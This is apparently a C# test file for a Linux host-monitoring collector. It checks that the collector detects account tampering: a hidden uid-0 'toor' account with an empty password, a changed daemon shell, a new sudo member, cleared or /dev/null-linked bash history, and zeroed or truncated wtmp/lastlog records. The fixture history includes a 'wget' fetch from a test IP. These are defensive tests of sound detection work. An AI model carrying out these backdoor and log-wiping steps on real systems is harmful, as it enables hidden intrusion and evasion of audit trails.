using System.Diagnostics;
using Atalaya.Core.Pipeline;
using Atalaya.Core.Schema;
using Atalaya.Platform.Linux.Accounts;
using Atalaya.TestKit;

namespace Atalaya.Platform.Linux.Tests.Accounts;

public sealed class AccountCollectorTests
{
    private const string Passwd = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nana:x:1000:1000:Ana:/home/ana:/bin/bash\n";
    private const string Group = "root:x:0:\nsudo:x:27:\nana:x:1000:\n";
    private const string History = "ls\ncd /tmp\nwget http://198.51.100.2/x\n";

    private const string Shadow = "root:*:20228:0:99999:7:::\ndaemon:*:20228:0:99999:7:::\nana:$y$j9T$salt$hash:20230:0:99999:7:::\n";

    private static TempDirectory Tree()
    {
        var root = new TempDirectory("atalaya-accounts-");
        root.WriteFile("etc/passwd", Passwd);
        root.WriteFile("etc/group", Group);
        root.WriteFile("etc/shadow", Shadow);
        root.WriteFile("home/ana/.bash_history", History);
        root.WriteFile("var/log/wtmp", "");
        File.WriteAllBytes(root.Combine("var/log/wtmp"), AccountParsersTests.Utmp(7, 10, "pts/0", "ana", "198.51.100.7", 1_750_000_000, [198, 51, 100, 7]));
        return root;
    }

    [Fact]
    public void Diff_reports_users_groups_passwords_logins_and_tampering()
    {
        using var root = Tree();
        var collector = new AccountCollector(new AccountCollectorOptions { RootPrefix = root.Path }, TimeProvider.System, null);
        var before = collector.Read();

        root.WriteFile("etc/passwd", Passwd.Replace("daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin", "daemon:x:1:1:daemon:/usr/sbin:/bin/sh", StringComparison.Ordinal)
            + "toor:x:0:0::/root:/bin/bash\n");
        root.WriteFile("etc/group", Group.Replace("sudo:x:27:", "sudo:x:27:ana", StringComparison.Ordinal));
        root.WriteFile("etc/shadow", Shadow + "toor::20300:0:99999:7:::\n");
        File.WriteAllText(root.Combine("home/ana/.bash_history"), "");
        using (var wtmp = new FileStream(root.Combine("var/log/wtmp"), FileMode.Append))
        {
            wtmp.Write(AccountParsersTests.Utmp(7, 11, "pts/1", "toor", "203.0.113.4", 1_750_000_500, [203, 0, 113, 4]));
        }

        var now = DateTimeOffset.UnixEpoch.AddYears(56);
        var events = collector.Diff(before, collector.Read(), now).ToList();

        Assert.Equal(
            [AccountActions.ShellChanged, AccountActions.UserAdded, AccountActions.GroupMemberAdded, AccountActions.Login, AccountActions.HistoryCleared],
            events.Select(e => e.Event.Action));
        var shell = events[0];
        Assert.Equal(("daemon", "1", "/bin/sh", "/usr/sbin/nologin"), (shell.User?.Name, shell.User?.Id, shell.Atalaya?.Account?.Shell, shell.Atalaya?.Account?.PreviousShell));
        Assert.Equal([EventCategories.Iam], shell.Event.Category);
        Assert.Equal([EventTypes.User, EventTypes.Change], shell.Event.Type);
        var added = events[1];
        Assert.Equal(("toor", "0", "empty", "/root"), (added.User?.Name, added.User?.Id, added.Atalaya?.Account?.PasswordState, added.Atalaya?.Account?.Home));
        Assert.Equal(DateTimeOffset.UnixEpoch.AddDays(20300), added.Atalaya?.Account?.PasswordChanged);
        Assert.Equal(("ana", "sudo"), (events[2].User?.Name, events[2].Atalaya?.Account?.Group));
        var login = events[3];
        Assert.Equal((EventCategories.Authentication, EventOutcomes.Success, "toor", "203.0.113.4", 11), (login.Event.Category[0], login.Event.Outcome, login.User?.Name, login.Source?.Ip, login.Process?.Pid));
        var history = events[4];
        Assert.Equal(("/home/ana/.bash_history", "ana", 0L), (history.File?.Path, history.User?.Name, history.Atalaya?.Account?.Records));
        Assert.Equal((long)History.Length, history.Atalaya?.Account?.PreviousRecords);
        Assert.All(events.Where(e => e.Event.Category[0] != EventCategories.Authentication), e => Assert.Equal(now, e.Timestamp));
    }

    [Fact]
    public void Wtmp_cut_in_place_and_history_linked_to_null_are_reported()
    {
        using var root = Tree();
        File.WriteAllBytes(root.Combine("var/log/wtmp"),
            [.. AccountParsersTests.Utmp(7, 10, "pts/0", "ana", "h", 1, null), .. AccountParsersTests.Utmp(8, 10, "pts/0", "", "", 2, null)]);
        var collector = new AccountCollector(new AccountCollectorOptions { RootPrefix = root.Path }, TimeProvider.System, null);
        var before = collector.Read();

        using (var wtmp = new FileStream(root.Combine("var/log/wtmp"), FileMode.Open))
        {
            wtmp.SetLength(UtmpParserRecord);
        }

        File.Delete(root.Combine("home/ana/.bash_history"));
        File.CreateSymbolicLink(root.Combine("home/ana/.bash_history"), "/dev/null");
        var events = collector.Diff(before, collector.Read(), DateTimeOffset.UnixEpoch).ToList();

        Assert.Equal([AccountActions.LoginRecordsRemoved, AccountActions.HistoryLinkedToNull], events.Select(e => e.Event.Action));
        Assert.Equal(("/var/log/wtmp", 2L, 1L), (events[0].File?.Path, events[0].Atalaya?.Account?.PreviousRecords, events[0].Atalaya?.Account?.Records));
        Assert.Equal("/dev/null", events[1].File?.TargetPath);
    }

    private const int UtmpParserRecord = UtmpParser.RecordSize;

    /// <summary>A lastlog file (sparse, slot = uid × 292) with root and ana (uid 1000) having logged in.</summary>
    private static void WriteLastlog(TempDirectory root, int anaTime)
    {
        using var file = new FileStream(root.Combine("var/log/lastlog"), FileMode.Create);
        file.Position = 0;
        file.Write(AccountParsersTests.Lastlog(1_750_000_000, "pts/0", "198.51.100.7"));
        file.Position = 1000L * LastlogParser.RecordSize;
        file.Write(AccountParsersTests.Lastlog(anaTime, "pts/1", "203.0.113.4"));
    }

    [Fact]
    public void A_lastlog_slot_wiped_after_a_login_or_the_file_cut_short_is_tampering_and_a_new_login_is_not()
    {
        using var root = Tree();
        WriteLastlog(root, 1_750_000_100);
        var collector = new AccountCollector(new AccountCollectorOptions { RootPrefix = root.Path }, TimeProvider.System, null);
        var first = collector.Read();
        Assert.Equal(DateTimeOffset.FromUnixTimeSeconds(1_750_000_100), first.Lastlog!.Entries["ana"].Time);
        Assert.Equal(("pts/1", "203.0.113.4"), (first.Lastlog.Entries["ana"].Line, first.Lastlog.Entries["ana"].Host));
        Assert.Null(first.Lastlog.Entries["daemon"].Time);

        // ana logs in again: the slot moves forward, which is what login(1) does.
        using (var file = new FileStream(root.Combine("var/log/lastlog"), FileMode.Open))
        {
            file.Position = 1000L * LastlogParser.RecordSize;
            file.Write(AccountParsersTests.Lastlog(1_750_000_900, "pts/2", "203.0.113.4"));
        }

        var second = collector.Read();
        Assert.Empty(collector.Diff(first, second, DateTimeOffset.UnixEpoch));

        // A cleaner zeroes ana's slot in place.
        using (var file = new FileStream(root.Combine("var/log/lastlog"), FileMode.Open))
        {
            file.Position = 1000L * LastlogParser.RecordSize;
            file.Write(new byte[LastlogParser.RecordSize]);
        }

        var third = collector.Read();
        var wiped = Assert.Single(collector.Diff(second, third, DateTimeOffset.UnixEpoch));
        Assert.Equal((AccountActions.LoginRecordsZeroed, "/var/log/lastlog", 1L), (wiped.Event.Action, wiped.File?.Path, wiped.Atalaya?.Account?.Records));

        // Then cuts the file short, dropping ana's slot altogether.
        using (var file = new FileStream(root.Combine("var/log/lastlog"), FileMode.Open))
        {
            file.SetLength(LastlogParser.RecordSize);
        }

        var cut = Assert.Single(collector.Diff(third, collector.Read(), DateTimeOffset.UnixEpoch));
        Assert.Equal((AccountActions.LoginRecordsRemoved, 1001L, 1L), (cut.Event.Action, cut.Atalaya?.Account?.PreviousRecords, cut.Atalaya?.Account?.Records));
    }

    [Fact]
    public void Snapshot_lists_accounts_without_any_password_hash()
    {
        using var root = Tree();
        var events = new AccountCollector(new AccountCollectorOptions { RootPrefix = root.Path }, TimeProvider.System, new HostFields { Name = "h" })
            .TakeSnapshot(CancellationToken.None);
        Assert.Equal(["root", "daemon", "ana"], events.Select(e => e.User?.Name));
        Assert.All(events, e => Assert.Equal(AccountActions.Present, e.Event.Action));
        Assert.Equal(["none", "none", "set"], events.Select(e => e.Atalaya?.Account?.PasswordState));
        Assert.All(events, e => Assert.DoesNotContain("$y$", EcsJson.Serialize(e), StringComparison.Ordinal));
    }

    /// <summary>A real account on this host: created with useradd, seen by the live collector, then removed with userdel -r.</summary>
    [SkippableFact]
    public void Real_useradd_and_userdel_are_seen()
    {
        Skip.If(Environment.UserName != "root" || !File.Exists("/usr/sbin/useradd") || !File.Exists("/usr/sbin/userdel"),
            "needs root and useradd/userdel");

        var name = "atl" + Environment.ProcessId.ToString(System.Globalization.CultureInfo.InvariantCulture);
        var collector = new AccountCollector(new AccountCollectorOptions(), TimeProvider.System, null);
        var before = collector.Read();
        try
        {
            Assert.Equal(0, Run("/usr/sbin/useradd", "-m", "-s", "/bin/bash", name));
            var added = collector.Diff(before, collector.Read(), DateTimeOffset.UnixEpoch).ToList();
            var user = Assert.Single(added, e => e.Event.Action == AccountActions.UserAdded);
            Assert.Equal((name, "/bin/bash", "/home/" + name), (user.User?.Name, user.Atalaya?.Account?.Shell, user.Atalaya?.Account?.Home));
            Assert.Equal("locked", user.Atalaya?.Account?.PasswordState);
            before = collector.Read();
        }
        finally
        {
            Run("/usr/sbin/userdel", "-r", name);
        }

        var removed = collector.Diff(before, collector.Read(), DateTimeOffset.UnixEpoch).ToList();
        Assert.Contains(removed, e => e.Event.Action == AccountActions.UserRemoved && e.User?.Name == name);
        Assert.False(Directory.Exists("/home/" + name));
    }

    private static int Run(string program, params string[] args)
    {
        var start = new ProcessStartInfo(program) { RedirectStandardError = true, RedirectStandardOutput = true };
        foreach (var arg in args)
        {
            start.ArgumentList.Add(arg);
        }

        using var process = Process.Start(start)!;
        process.StandardOutput.ReadToEnd();
        process.StandardError.ReadToEnd();
        process.WaitForExit();
        return process.ExitCode;
    }
}
